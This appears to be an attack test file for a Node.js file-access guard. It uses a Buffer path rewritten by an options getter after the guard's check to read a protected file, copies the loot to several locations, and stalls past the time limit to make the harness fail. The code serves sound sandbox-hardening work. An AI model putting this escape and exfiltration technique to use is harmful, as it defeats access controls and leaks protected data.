/* @attack {"title": "a Buffer path that names a run-dir decoy when the guard decides and runs/attacker/c2/portfolio_candidates.json when Node opens it", "setup": ["rel-symlink-chain"], "maxSeconds": 20} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
// zz/ and c2/ have the same length: an options getter rewrites two bytes.
fs.mkdirSync(`${run}/zz`);
fs.writeFileSync(`${run}/zz/portfolio_candidates.json`, '["DECOY"]\n');
const decoy = `${run}/zz/portfolio_candidates.json`;
const real = `${run}/c2/portfolio_candidates.json`;
const rewriting = (bytes) => ({
  get encoding() {
    bytes.write(real);
    return 'utf8';
  },
});
const leak = (text) => {
  fs.writeFileSync(`${run}/zz/leak.json`, '');
  const bytes = Buffer.from(`${run}/zz/leak.json`);
  fs.writeFileSync(bytes, text, {
    get encoding() {
      bytes.write(`${run}/c2/leak.json`);
      return 'utf8';
    },
  });
};
for (const [how, read] of [
  ['readFileSync', (p) => fs.readFileSync(p, rewriting(p))],
  ['readFile callback', (p) => new Promise((resolve, reject) => fs.readFile(p, rewriting(p), (e, d) => (e ? reject(e) : resolve(d))))],
  ['promises.readFile', (p) => fs.promises.readFile(p, rewriting(p))],
]) {
  try {
    await exfiltrate(how, await read(Buffer.from(decoy)), leak);
  } catch (error) {
    console.log(`${how}: ${error.code}`);
  }
}

// The trick above is neutralized: the guard hands Node exactly the path it decided on, so
// the read gets the decoy. A hostile sleeve then tries the direct route, which is refused.
try {
  fs.readFileSync('data/lakehouse/portfolio_candidates.json');
} catch (error) {
  console.log(`direct route: ${error.code}`);
}
